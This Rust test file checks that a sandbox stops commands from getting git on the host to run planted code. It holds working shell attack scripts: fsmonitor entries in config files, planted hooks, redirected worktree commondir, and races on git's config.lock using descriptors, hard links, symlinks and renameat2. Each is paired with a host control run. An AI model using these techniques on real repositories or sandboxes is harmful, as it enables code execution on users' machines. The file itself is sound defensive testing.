//! Git's indirections beyond `.git/hooks` and `.git/config` (issue 15): `config.worktree`,
//! a linked worktree's `commondir` and `gitdir`, `info/exclude` and `info/attributes`, and
//! the files the repository's own config names (`core.hooksPath`, `include.path`,
//! `includeIf.*.path`, hooks that are symbolic links). Each is read-only during the run and
//! refused on creation; the decisive check is git on the HOST afterwards running nothing.
//! Git's state of a stopped rebase (its todo list's `exec` lines, its merge strategy) is
//! compared after the run with the start, and quarantined when it gained what runs code.
//!
//! And everyday git on an existing repository keeps working: `git config` of inert keys,
//! `git remote add`, `git branch -u`, `git push -u`, `git sparse-checkout` (they rewrite
//! `.git/config`, which failed with EBUSY), while a live key is refused and reported.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test: panicking with a message is how it reports a failure"
)]

use std::path::Path;

use attacks::{read_bytes, read_text, write_file, Fixture};

fn git_in(fx: &Fixture, dir: &Path, args: &[&str]) -> attacks::Run {
    let mut all = vec!["-C", dir.to_str().expect("utf-8 path")];
    all.extend_from_slice(args);
    fx.git_host(&all)
}

/// `git status` and `git commit` on the host in `dir`, as a user would after the run.
fn host_git_uses_the_repository(fx: &Fixture, dir: &Path) {
    git_in(fx, dir, &["status", "--porcelain"]);
    git_in(
        fx,
        dir,
        &[
            "-c",
            "user.email=h@example.invalid",
            "-c",
            "user.name=H",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "after the run",
        ],
    );
}

#[test]
fn existing_config_worktree_cannot_gain_an_fsmonitor() {
    let fx = Fixture::new();
    let records = fx.records();
    fx.git_host(&["config", "extensions.worktreeConfig", "true"])
        .assert_success();
    write_file(
        &fx.ws.join(".git/config.worktree"),
        "[user]\n\tname = W\n",
        0o644,
    );
    let (script, flag) = fx.tripwire("pwned-worktree-config");
    let attack = format!(
        "printf '[core]\\n\\tfsmonitor = {}\\n' >> .git/config.worktree",
        script.display()
    );
    let before = read_bytes(&fx.ws.join(".git/config.worktree"));
    fx.attack(&records.opts(), &attack)
        .outcome()
        .assert_failed_if_guarded();
    assert_eq!(read_bytes(&fx.ws.join(".git/config.worktree")), before);
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists(), "the planted fsmonitor ran on the host");
    // Control: the same append on the host, and git runs it.
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(flag.exists(), "control: git did not run the fsmonitor");
}

#[test]
fn new_config_worktree_with_a_live_key_is_refused() {
    let fx = Fixture::new();
    let records = fx.records();
    fx.git_host(&["config", "extensions.worktreeConfig", "true"])
        .assert_success();
    let (script, flag) = fx.tripwire("pwned-new-worktree-config");
    let attack = format!(
        "printf '[core]\\n\\tfsmonitor = {}\\n' > cw && mv cw .git/config.worktree",
        script.display()
    );
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_failed_if_guarded();
    records.assert_blocked(&run.run, &[".git/config.worktree"]);
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists(), "the planted fsmonitor ran on the host");
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(flag.exists(), "control: git did not run the fsmonitor");
}

/// A linked worktree outside the workspace reads `commondir` from the workspace's
/// `.git/worktrees/<name>/`: pointing it at a git dir planted in the workspace would make git
/// in that worktree run the planted config.
#[test]
fn linked_worktree_outside_the_workspace_cannot_be_redirected() {
    let fx = Fixture::new();
    let records = fx.records();
    let wt = fx.root.join("linked");
    fx.git_host(&[
        "worktree",
        "add",
        "-q",
        wt.to_str().unwrap(),
        "-b",
        "linked",
    ])
    .assert_success();
    let (script, flag) = fx.tripwire("pwned-commondir");
    // A git dir assembled by hand (an inert config first, so nothing recognised it as one
    // then; its live key is written into the existing file once it is a git dir: a live config
    // next to a new `HEAD` is refused, and the sweep takes this one out after the run).
    let attack = format!(
        "rm -rf evil && mkdir evil || exit 99
        printf '[core]\\n\\trepositoryformatversion = 0\\n' > evil/config
        mkdir evil/objects evil/refs && echo 'ref: refs/heads/linked' > evil/HEAD || exit 99
        printf '[core]\\n\\tfsmonitor = {}\\n' >> evil/config
        cp -r .git/objects/. evil/objects/ && cp -r .git/refs/. evil/refs/ || exit 99
        for f in .git/worktrees/linked/commondir .git/worktrees/linked/gitdir; do
            echo ../../../evil > \"$f.new\" || true
            mv -f \"$f.new\" \"$f\" 2>/dev/null || echo ../../../evil > \"$f\"
        done",
        script.display()
    );
    let commondir = fx.ws.join(".git/worktrees/linked/commondir");
    let before = read_bytes(&commondir);
    let run = fx.attack(&records.opts(), &attack).outcome();
    run.assert_failed();
    assert_ne!(run.rc, Some(99), "setup failed\n{}", run.run.describe());
    assert_eq!(read_bytes(&commondir), before, "commondir changed");
    host_git_uses_the_repository(&fx, &wt);
    assert!(
        !flag.exists(),
        "git in the linked worktree ran the planted config"
    );
    // Control.
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &wt);
    assert!(flag.exists(), "control: git did not follow the commondir");
}

#[test]
fn info_exclude_and_attributes_cannot_hide_a_change() {
    let fx = Fixture::new();
    let records = fx.records();
    let attack = "set -e
        echo planted > planted.txt
        echo 'the readme changed' >> README.md
        echo planted.txt >> .git/info/exclude
        echo 'README.md -diff' > .git/info/attributes";
    fx.attack(&records.opts(), attack).outcome().assert_failed();
    let status = fx.git_host(&["status", "--porcelain"]);
    status.assert_stdout_contains("planted.txt");
    let diff = fx.git_host(&["diff"]);
    diff.assert_stdout_contains("the readme changed");
    // Control: on the host the same steps hide both.
    std::fs::remove_file(fx.ws.join("planted.txt")).ok();
    fx.git_host(&["checkout", "--", "README.md"])
        .assert_success();
    fx.control(attack).outcome().assert_ok();
    let status = fx.git_host(&["status", "--porcelain"]);
    status.assert_lacks("planted.txt");
    let diff = fx.git_host(&["diff"]);
    diff.assert_lacks("the readme changed");
}

#[test]
fn hooks_path_named_by_the_repository_is_protected() {
    let fx = Fixture::new();
    let records = fx.records();
    fx.git_host(&["config", "core.hooksPath", ".githooks"])
        .assert_success();
    std::fs::create_dir_all(fx.ws.join(".githooks")).unwrap();
    let (script, flag) = fx.tripwire("pwned-hookspath");
    let attack = format!(
        "printf '#!/bin/sh\\n{}\\n' > .githooks/pre-commit && chmod +x .githooks/pre-commit",
        script.display()
    );
    fx.attack(&records.opts(), &attack)
        .outcome()
        .assert_failed_if_guarded();
    assert!(!fx.ws.join(".githooks/pre-commit").exists());
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists(), "a hook in core.hooksPath ran on the host");
    // Not existing yet: its creation is refused too.
    let fx2 = Fixture::new();
    fx2.git_host(&["config", "core.hooksPath", "hooks-later"])
        .assert_success();
    fx2.attack(&[], "mkdir hooks-later")
        .outcome()
        .assert_failed_if_guarded();
    assert!(!fx2.ws.join("hooks-later").exists());
    // Control.
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(flag.exists(), "control: git did not run the hook");
}

#[test]
fn included_config_files_are_protected() {
    let fx = Fixture::new();
    let records = fx.records();
    write_file(
        &fx.ws.join("team.gitconfig"),
        "[user]\n\tname = Team\n",
        0o644,
    );
    write_file(
        &fx.ws.join("nested.gitconfig"),
        "[user]\n\temail = t@example.invalid\n",
        0o644,
    );
    fx.git_host(&["config", "include.path", "../team.gitconfig"])
        .assert_success();
    fx.git_host(&["config", "includeIf.gitdir:/.path", "../nested.gitconfig"])
        .assert_success();
    let (script, flag) = fx.tripwire("pwned-include");
    for file in ["team.gitconfig", "nested.gitconfig"] {
        let attack = format!(
            "printf '[core]\\n\\tfsmonitor = {}\\n' >> {file}",
            script.display()
        );
        fx.attack(&records.opts(), &attack)
            .outcome()
            .assert_failed();
        host_git_uses_the_repository(&fx, &fx.ws);
        assert!(
            !flag.exists(),
            "{file}: an included fsmonitor ran on the host"
        );
    }
    let attack = format!(
        "printf '[core]\\n\\tfsmonitor = {}\\n' >> team.gitconfig",
        script.display()
    );
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(
        flag.exists(),
        "control: git did not run the included fsmonitor"
    );
}

/// A file the repository's config includes that does not exist at the start, made during the
/// run by someone else (another run's command, any process outside a sandbox). Natively the
/// run's write into it is refused by name (the creation guard judges write-opens of existing
/// files since issue 32's sixth round) and reported, and the file stays as the other process
/// made it; under gVisor, which has no creation guard, the run writes into it and it is
/// quarantined after the run (red team issue 32d, third pass). Either way host git runs
/// nothing from it. Control: the same append on the host, and git runs it.
#[test]
fn an_included_config_made_during_the_run_by_another_process_is_not_left_written() {
    let fx = Fixture::new();
    let records = fx.records();
    fx.git_host(&["config", "include.path", "../later.gitconfig"])
        .assert_success();
    let (script, flag) = fx.tripwire("pwned-later-include");
    let later = fx.ws.join("later.gitconfig");
    let attack = format!(
        "i=0; while [ ! -s later.gitconfig ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
         [ -s later.gitconfig ] || exit 97
         printf '[core]\\n\\tfsmonitor = {}\\n' >> later.gitconfig",
        script.display()
    );
    // The other process: it makes the file once the run has begun.
    let made = later.clone();
    let run = beside_a_run(&fx, &records.opts(), &attack, move || {
        write_file(&made, "[user]\n\tname = Later\n", 0o666)
    });
    run.assert_output_contains("later.gitconfig");
    if attacks::creation_guarded() {
        run.assert_failed();
        records.assert_blocked(&run.run, &["later.gitconfig"]);
        assert_eq!(
            read_text(&later).as_deref(),
            Some("[user]\n\tname = Later\n"),
            "the included file is not as the other process made it"
        );
    } else {
        let quarantined = attacks::quarantined_files(&fx.ws);
        let copy = (quarantined.iter())
            .find(|p| p.file_name().is_some_and(|n| n == "later.gitconfig"))
            .unwrap_or_else(|| panic!("not quarantined: {quarantined:?}"));
        assert!(
            read_text(copy).is_some_and(|t| t.contains("fsmonitor")),
            "the run did not write the file: the test proves nothing"
        );
        assert!(!later.exists(), "the included file is still there");
    }
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(
        !flag.exists(),
        "an fsmonitor in the included file ran on the host"
    );
    // Control.
    write_file(&later, "[user]\n\tname = Later\n", 0o644);
    fx.control(&attack).outcome().assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(
        flag.exists(),
        "control: git did not run the included fsmonitor"
    );
}

/// Runs `attack` in the sandbox while the host runs `host` once `started` exists (the run has
/// begun): someone else's change beside a run. Returns the run's outcome.
fn beside_a_run(
    fx: &Fixture,
    opts: &[&str],
    attack: &str,
    host: impl FnOnce() + Send + 'static,
) -> attacks::Outcome {
    let started = fx.ws.join("started");
    let maker = {
        let started = started.clone();
        std::thread::spawn(move || {
            let until = std::time::Instant::now() + std::time::Duration::from_secs(120);
            while !started.exists() {
                if std::time::Instant::now() > until {
                    return false;
                }
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            host();
            true
        })
    };
    let run = fx
        .attack(opts, &format!("touch started\n{attack}"))
        .outcome();
    assert!(
        maker.join().unwrap(),
        "the run never began: the test proves nothing"
    );
    let _ = std::fs::remove_file(&started);
    run
}

/// The user adds a worktree on the host during a run (`git worktree add`): its
/// `.git/worktrees/<name>/commondir` did not exist at the start, so nothing kept it
/// read-only, and the run rewrites it to send git to a common dir of its own whose config
/// runs an fsmonitor (red team issue 32, fifth pass: git in the worktree ran it, 5 of 5).
/// After the run a new worktree's `commondir` that does not lead back to its own git dir is
/// quarantined, and git in the worktree runs nothing. A worktree added the same way beside a
/// run that does nothing stays as git made it. Control: the same rewrite on the host, and
/// git in the worktree runs the fsmonitor.
#[test]
fn a_worktree_added_beside_a_run_cannot_be_sent_elsewhere() {
    if attacks::not_applicable(&attacks::na::GIT_STAGED) {
        return;
    }
    let fx = Fixture::new();
    fx.git_host(&["commit", "-q", "--allow-empty", "-m", "first"]);
    let (script, flag) = fx.tripwire("pwned-worktree-commondir");
    let plant = format!(
        "mkdir -p evil/objects evil/refs/heads
         cp -r .git/objects/. evil/objects/; cp -r .git/refs/. evil/refs/
         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = {}\\n' > evil/config",
        script.display()
    );
    let rewrite_to = |name: &str, to: &str| {
        format!(
            "i=0; while [ ! -s .git/worktrees/{name}/commondir ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
             sleep 0.3; printf '{to}\\n' > .git/worktrees/{name}/commondir"
        )
    };
    let rewrite = |name: &str| rewrite_to(name, "../../../evil");
    let add = |fx: &Fixture, name: &str| {
        let (ws, wt) = (fx.ws.clone(), fx.root.join(name));
        move || {
            let done = std::process::Command::new("git")
                .args(["-c", "safe.directory=*", "-C"])
                .arg(&ws)
                .args(["worktree", "add", "-q"])
                .arg(&wt)
                .status()
                .expect("run git worktree add");
            assert!(done.success(), "git worktree add failed");
        }
    };
    beside_a_run(
        &fx,
        &[],
        &format!("{plant}\n{}", rewrite("wt1")),
        add(&fx, "wt1"),
    );
    let commondir = fx.ws.join(".git/worktrees/wt1/commondir");
    assert_ne!(
        read_text(&commondir).as_deref(),
        Some("../../../evil\n"),
        "the rewritten commondir is still there"
    );
    host_git_uses_the_repository(&fx, &fx.root.join("wt1"));
    assert!(
        !flag.exists(),
        "git in the worktree ran the planted fsmonitor"
    );
    // `../.. ` (a trailing space): to git, `.git/worktrees/.. `, a common dir the run made
    // (red team issue 32, fifth round, second pass).
    let spaced = format!(
        "mkdir -p '.git/worktrees/.. /objects' '.git/worktrees/.. /refs/heads'
         cp -r .git/objects/. '.git/worktrees/.. /objects/'; cp -r .git/refs/. '.git/worktrees/.. /refs/'
         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = {}\\n' > '.git/worktrees/.. /config'
         {}",
        script.display(),
        rewrite_to("wt4", "../.. ")
    );
    beside_a_run(&fx, &[], &spaced, add(&fx, "wt4"));
    host_git_uses_the_repository(&fx, &fx.root.join("wt4"));
    assert!(
        !flag.exists(),
        "git in the worktree ran the fsmonitor of a common dir named `.. `"
    );
    // A worktree added beside a run that leaves it alone stays as git made it (native; under
    // gVisor, which has no creation guard, every new file of git's is quarantined after the
    // run, the user's too: a known limit).
    if attacks::creation_guarded() {
        beside_a_run(&fx, &[], "sleep 1", add(&fx, "wt2"));
        assert_eq!(
            read_text(&fx.ws.join(".git/worktrees/wt2/commondir")).as_deref(),
            Some("../..\n")
        );
        git_in(&fx, &fx.root.join("wt2"), &["status", "--porcelain"]).assert_success();
    }
    // Control.
    add(&fx, "wt3")();
    fx.control(&format!("{plant}\n{}", rewrite("wt3")))
        .outcome()
        .assert_ok();
    host_git_uses_the_repository(&fx, &fx.root.join("wt3"));
    assert!(
        flag.exists(),
        "control: git in the worktree did not run the fsmonitor"
    );
}

/// A repository with one commit, and a file outside the workspace holding a config section
/// whose fsmonitor is a tripwire named `tripwire`: the payload's path and the tripwire's flag.
fn committed_with_a_payload(
    fx: &Fixture,
    tripwire: &str,
) -> (std::path::PathBuf, std::path::PathBuf) {
    fx.git_host(&["commit", "-q", "--allow-empty", "-m", "first"]);
    let (script, flag) = fx.tripwire(tripwire);
    let payload = fx.root.join(format!("{tripwire}.payload"));
    write_file(
        &payload,
        format!("[core]\n\tfsmonitor = {}\n", script.display()),
        0o644,
    );
    (payload, flag)
}

/// What git on the host does (lockfile.c), for `.git/config` (adding `[user]` with `change`)
/// and, as the control, `.git/description`: each lock made and written, then, once the run
/// has left `grabbed`, renamed over its file. The config's lock may be gone by then (a run
/// that removed it: git would fail to commit).
fn host_commits_locks(ws: &Path, change: &str) -> impl FnOnce() + Send + 'static {
    let (ws, change) = (ws.to_path_buf(), change.to_owned());
    move || {
        let git = ws.join(".git");
        let config = std::fs::read_to_string(git.join("config")).unwrap();
        write_file(
            &git.join("config.lock"),
            format!("{config}[user]\n\t{change}\n"),
            0o644,
        );
        write_file(&git.join("description.lock"), "the host's\n", 0o644);
        let until = std::time::Instant::now() + std::time::Duration::from_secs(60);
        while !ws.join("grabbed").exists() && std::time::Instant::now() < until {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        std::fs::rename(git.join("description.lock"), git.join("description")).unwrap();
        let _ = std::fs::rename(git.join("config.lock"), git.join("config"));
    }
}

/// The user runs `git config` on the host during a run: git writes `config.lock` and renames
/// it over `config`, so the read-only mount over the old file goes with it and the new file
/// has none (red team issue 32, fifth round: HIGH on native). The run then writes a live key
/// into it by name: an append (`>>`: `O_CREAT`), a write-open without `O_CREAT` (`dd
/// conv=nocreat`), a reopen of a read-only descriptor through `/proc/self/fd`, and a
/// `truncate` by name. Each is refused and reported, and git on the host runs nothing.
/// Controls: inside a run the mount is there before the host's rewrite and gone after it (the
/// guard is what stops the writes), and the same append on the host makes git run the
/// fsmonitor.
#[test]
fn a_config_the_user_rewrites_during_a_run_cannot_be_written_by_it() {
    if attacks::not_applicable(&attacks::na::GIT_STAGED) {
        return;
    }
    let fx = Fixture::new();
    let records = fx.records();
    let (payload, flag) = committed_with_a_payload(&fx, "pwned-rewritten-config");
    let payload = payload.display();
    // A mount point ending in /.git/config (mountinfo's fields are separated by spaces).
    let mounted = "grep -c '/\\.git/config ' /proc/self/mountinfo";
    fx.attack(&[], &format!("{mounted} > mounted-quiet; true"))
        .outcome()
        .assert_ok();
    let writes = format!(
        "i=0; while ! grep -q 'name = host' .git/config && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
         grep -q 'name = host' .git/config || exit 97
         {mounted} > mounted-after
         won=0
         cat {payload} >> .git/config && won=1
         dd if={payload} of=.git/config conv=nocreat,notrunc oflag=append status=none && won=1
         exec 3<.git/config
         dd if={payload} of=/proc/self/fd/3 conv=nocreat,notrunc oflag=append status=none && won=1
         truncate -s 9 .git/config && won=1
         [ $won = 0 ] && exit 1
         exit 0"
    );
    let ws = fx.ws.clone();
    let run = beside_a_run(&fx, &records.opts(), &writes, move || {
        let done = std::process::Command::new("git")
            .args(["-c", "safe.directory=*", "-C"])
            .arg(&ws)
            .args(["config", "user.name", "host"])
            .status()
            .expect("run git config");
        assert!(done.success(), "git config on the host failed");
    });
    run.assert_failed_if_guarded();
    assert_ne!(
        run.rc,
        Some(97),
        "the run never saw the host's rewrite: the test proves nothing"
    );
    if attacks::creation_guarded() {
        assert_ne!(
            read_text(&fx.ws.join("mounted-quiet")).as_deref(),
            Some("0\n"),
            "control: no read-only mount over .git/config in a quiet run"
        );
        assert_eq!(
            read_text(&fx.ws.join("mounted-after")).as_deref(),
            Some("0\n"),
            "control: the mount over .git/config is still there after the host's rewrite"
        );
        records.assert_blocked(&run.run, &[".git/config"]);
        let config = read_text(&fx.ws.join(".git/config")).unwrap();
        assert!(
            config.contains("name = host") && !config.contains("fsmonitor"),
            "the user's config is not as git on the host left it:\n{config}"
        );
    }
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists(), "the planted fsmonitor ran on the host");
    // Control: the same append on the host, and git runs it.
    fx.control(&format!("cat {payload} >> .git/config"))
        .outcome()
        .assert_ok();
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(flag.exists(), "control: git did not run the fsmonitor");
}

/// Git on the host writes `.git/config.lock` and renames it over `config`: a descriptor the run
/// opens on the lock in between is one on the new config afterwards (red team issue 32, sixth
/// round: an fsmonitor appended that way ran on the host, 3 to 5 runs of 6). Natively, opening
/// an existing lock of git's code files for writing is refused and reported, and so the config
/// stays as the host's git wrote it; under gVisor the run's write is checked after the run.
/// The same through a hard link to the lock, made before git renames it (second red-team
/// pass: 6 of 6). Control: in the same run a descriptor on another lock the host renames the
/// same way (`.git/description.lock` over `description`) does write into the renamed file,
/// and a hard link to it is made.
#[test]
fn a_lock_the_users_git_is_writing_cannot_be_grabbed_by_the_run() {
    if attacks::not_applicable(&attacks::na::GIT_STAGED) {
        return;
    }
    let fx = Fixture::new();
    let records = fx.records();
    let (payload, flag) = committed_with_a_payload(&fx, "pwned-config-lock");
    let payload = payload.display();
    let grab = format!(
        "i=0; while [ ! -e .git/config.lock ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
         [ -e .git/config.lock ] || exit 97
         command exec 4>>.git/config.lock || exec 4>/dev/null
         command exec 5>>.git/description.lock || exit 98
         ln .git/config.lock .git/grab && command exec 6>>.git/grab || exec 6>/dev/null
         ln .git/description.lock .git/dgrab || exit 98
         : > grabbed
         i=0; while ! grep -q 'name = host' .git/config && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
         cat {payload} >&4; cat {payload} >&5; cat {payload} >&6
         grep -q fsmonitor .git/config && exit 0
         exit 1"
    );
    let run = beside_a_run(
        &fx,
        &records.opts(),
        &grab,
        host_commits_locks(&fx.ws, "name = host"),
    );
    run.assert_failed_if_guarded();
    assert!(
        !matches!(run.rc, Some(97 | 98)),
        "the run did not get to the locks: the test proves nothing\n{}",
        run.run.describe()
    );
    assert!(
        fx.ws.join("grabbed").exists(),
        "the run stopped before the host renamed the locks: the test proves nothing\n{}",
        run.run.describe()
    );
    assert!(
        read_text(&fx.ws.join(".git/description")).is_some_and(|t| t.contains("fsmonitor")),
        "control: a descriptor on the other lock did not write into the renamed file"
    );
    assert!(
        fx.ws.join(".git/dgrab").exists(),
        "control: a hard link to the other lock was not made"
    );
    if attacks::creation_guarded() {
        records.assert_blocked(&run.run, &[".git/config.lock"]);
        assert!(
            !fx.ws.join(".git/grab").exists(),
            "a hard link to git's config.lock was made"
        );
        let config = read_text(&fx.ws.join(".git/config")).unwrap();
        assert!(
            config.contains("name = host") && !config.contains("fsmonitor"),
            "the user's config is not as git on the host wrote it:\n{config}"
        );
    }
    host_git_uses_the_repository(&fx, &fx.ws);
    assert!(!flag.exists(), "the planted fsmonitor ran on the host");
}

/// Git on the host renames whatever has the lock's name when it commits, so the run puts a
/// file of its own under `.git/config.lock` while the user's `git config` holds it (red team,
/// issue 32 sixth round, second pass: 6 of 6 by a rename or exchange, 3 of 4 by removing the
/// lock and making one): a rename onto it, an exchange with it (`renameat2`), a symlink in its
/// place, and removing it and making one (allowed, as the run's own git makes its lock, but
/// the name then holds the config as it was and what the run writes goes to a file no name
/// points at). In every case the user's config gets nothing of the run's and git on the host
/// runs nothing. Control: each route on `.git/description.lock`, renamed the same way by the
/// host, puts the run's file in place of `description`.
#[test]
fn a_lock_the_users_git_is_writing_cannot_be_replaced_by_the_run() {
    if attacks::not_applicable(&attacks::na::GIT_STAGED) {
        return;
    }
    let fx = Fixture::new();
    let (payload, flag) = committed_with_a_payload(&fx, "pwned-replaced-lock");
    let payload = payload.display();
    let exchange = "python3 -c 'import ctypes,os,sys
l=ctypes.CDLL(None,use_errno=True)
r=l.renameat2(-100,sys.argv[1].encode(),-100,sys.argv[2].encode(),2)
sys.exit(0 if r==0 else os.strerror(ctypes.get_errno()))'";
    let routes = [
        (
            "rename",
            format!("cp {payload} .git/mine-$L && mv -f .git/mine-$L .git/$L"),
        ),
        (
            "exchange",
            format!("cp {payload} .git/mine-$L && {exchange} .git/mine-$L .git/$L"),
        ),
        (
            "symlink",
            format!("rm -f .git/$L && ln -s {payload} .git/$L"),
        ),
        (
            "recreate",
            format!("rm -f .git/$L && (set -C; cat {payload} > .git/$L)"),
        ),
    ];
    // Under gVisor (no creation guard) each route's config is quarantined after the run: every
    // route starts from the user's config as it was.
    let users_config = std::fs::read(fx.ws.join(".git/config")).unwrap();
    for (route, act) in routes {
        if route == "exchange" && attacks::backend() == "gvisor" {
            println!("exchange: n/a under gvisor: renameat2(RENAME_EXCHANGE) is EINVAL there");
            continue;
        }
        let _ = std::fs::remove_file(fx.ws.join(".git/config"));
        std::fs::write(fx.ws.join(".git/config"), &users_config).unwrap();
        let records = fx.records();
        let _ = std::fs::remove_file(fx.ws.join(".git/description"));
        let _ = std::fs::remove_file(fx.ws.join("grabbed"));
        let script = format!(
            "i=0; while ! [ -e .git/config.lock -a -e .git/description.lock ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
             [ -e .git/config.lock ] || exit 97
             L=config.lock; {act}; won=$?
             L=description.lock; {act} || exit 98
             : > grabbed
             i=0; while [ -e .git/description.lock -o -e .git/config.lock ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
             grep -q fsmonitor .git/config && exit 0
             exit $((won == 0 ? 1 : 2))"
        );
        let users = format!("name = host-{route}");
        let host = host_commits_locks(&fx.ws, &users);
        let run = beside_a_run(&fx, &records.opts(), &script, host);
        let seen = run.run.describe();
        assert!(
            !matches!(run.rc, Some(97 | 98)),
            "{route}: the run did not get to the locks: the test proves nothing\n{seen}"
        );
        assert!(
            fx.ws.join("grabbed").exists(),
            "{route}: the run stopped before the host renamed the locks: the test proves nothing\n{seen}"
        );
        if route == "symlink" {
            // The run's link took the place of `description`, and the sweep took it out after
            // the run (a link in a git dir, issue 32 eighth round).
            records.assert_swept(&run.run, &[".git/description"]);
        } else {
            assert!(
                read_text(&fx.ws.join(".git/description")).is_some_and(|t| t.contains("fsmonitor")),
                "{route}: control: the run's file did not take the place of `description`\n{seen}"
            );
        }
        if attacks::creation_guarded() {
            assert_ne!(
                run.rc,
                Some(0),
                "{route}: the config holds the run's file\n{seen}"
            );
            let config = read_text(&fx.ws.join(".git/config")).unwrap();
            assert!(!config.contains("fsmonitor"), "{route}: {config}");
            if route == "recreate" {
                // Made as git makes it: the name held the config as it was.
                assert_eq!(run.rc, Some(1), "{route}: {seen}");
            } else {
                assert_eq!(
                    run.rc,
                    Some(2),
                    "{route}: the route was not refused\n{seen}"
                );
                records.assert_blocked(&run.run, &[".git/config.lock"]);
            }
            // The user's change arrives when the run left the host's lock in place; after a
            // `rm` of it the host's git fails to commit (or, after the run made its own, commits
            // the config as it was): lost, but nothing of the run's.
            let kept = matches!(route, "rename" | "exchange");
            assert_eq!(config.contains(&users), kept, "{route}: {config}");
        }
        host_git_uses_the_repository(&fx, &fx.ws);
        assert!(
            !flag.exists(),
            "{route}: the planted fsmonitor ran on the host"
        );
    }
}

/// Git takes a directory for a git dir when it holds a `HEAD` and passes `access(X_OK)` on
/// `objects` and `refs`, which executable files pass too. A run swapped the directories of
/// the user's bare repository for such files, and its `config.lock` was an ordinary name
/// again (red team, issue 32 seventh round: host `git config` installed the run's file, 5 of
/// 5); with such files a directory of its own took a live config by a rename, and git used
/// it as a repository during the run (3 of 3). Both are refused and reported. Control: the
/// same in a directory without `HEAD` is made.
#[test]
fn files_named_objects_and_refs_do_not_hide_a_git_dir() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let fx = Fixture::new();
    let records = fx.records();
    let (payload, flag) = committed_with_a_payload(&fx, "pwned-objects-file");
    let payload = payload.display();
    fx.git_host(&["init", "-q", "--bare", "mirror.git"])
        .assert_success();
    let script = format!(
        "cd mirror.git && mv refs refs.x && : > refs && chmod +x refs && mv objects objects.x && : > objects && chmod +x objects && cd .. || exit 97
         ln -s {payload} mirror.git/config.lock; lock=$?
         mkdir d && printf '[core]\\n\\tbare = true\\n' > d/config && printf 'ref: refs/heads/main\\n' > d/HEAD && : > d/objects && : > d/refs && chmod +x d/objects d/refs || exit 97
         cp {payload} d/live && mv -f d/live d/config; planted=$?
         mkdir plain && printf '[core]\\n' > plain/config && ln -s {payload} plain/config.lock && cp {payload} plain/live && mv -f plain/live plain/config; control=$?
         echo \"lock=$lock planted=$planted control=$control\""
    );
    let run = fx.attack(&records.opts(), &script).outcome();
    run.assert_ok().assert_shows("control=0");
    assert!(
        !run.run.stdout.contains("lock=0") && !run.run.stdout.contains("planted=0"),
        "a git dir with files for objects and refs was not taken for one\n{}",
        run.run.describe()
    );
    records.assert_blocked(&run.run, &["mirror.git/config.lock", "d/config"]);
    assert!(std::fs::symlink_metadata(fx.ws.join("mirror.git/config.lock")).is_err());
    assert!(!read_text(&fx.ws.join("d/config"))
        .unwrap_or_default()
        .contains("fsmonitor"));
    assert!(read_text(&fx.ws.join("plain/config")).is_some_and(|t| t.contains("fsmonitor")));
    assert!(!flag.exists());
}

/// A git dir known by its content (a bare repository the user makes during the run: no
/// read-only mount) stops being one while its `HEAD` is moved away, and its `config.lock` is
/// then an ordinary name: the run made one of its own there (or wrote the host's), put `HEAD`
/// back, and host git committed the lock (red team, issue 32 seventh round, second pass: 3 of
/// 3). Putting `HEAD` back while a code lock is there is refused and reported (git makes its
/// locks after `HEAD`). Control: with the lock gone, `HEAD` goes back.
#[test]
fn a_bare_repository_gets_its_head_back_only_without_a_lock() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let fx = Fixture::new();
    let records = fx.records();
    let (payload, flag) = committed_with_a_payload(&fx, "pwned-head-away");
    let payload = payload.display();
    let script = format!(
        "i=0; while ! [ -e mirror.git/HEAD -a -e mirror.git/made ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
         mv mirror.git/HEAD HEAD.x || exit 97
         (set -C; cat {payload} > mirror.git/config.lock) || exit 98
         mv HEAD.x mirror.git/HEAD; back=$?
         rm -f mirror.git/config.lock
         {{ [ ! -e HEAD.x ] || mv HEAD.x mirror.git/HEAD; }}; control=$?
         echo \"back=$back control=$control\""
    );
    let ws = fx.ws.clone();
    let run = beside_a_run(&fx, &records.opts(), &script, move || {
        let made = std::process::Command::new("git")
            .args(["init", "-q", "--bare"])
            .arg(ws.join("mirror.git"))
            .status()
            .expect("git init --bare");
        assert!(made.success());
        write_file(&ws.join("mirror.git/made"), "", 0o644);
    });
    run.assert_ok().assert_shows("control=0");
    assert!(
        !run.run.stdout.contains("back=0"),
        "HEAD went back beside a config.lock\n{}",
        run.run.describe()
    );
    records.assert_blocked(&run.run, &["mirror.git/HEAD"]);
    assert!(fx.ws.join("mirror.git/HEAD").is_file());
    assert!(!fx.ws.join("mirror.git/config.lock").exists());
    assert!(!flag.exists());
}

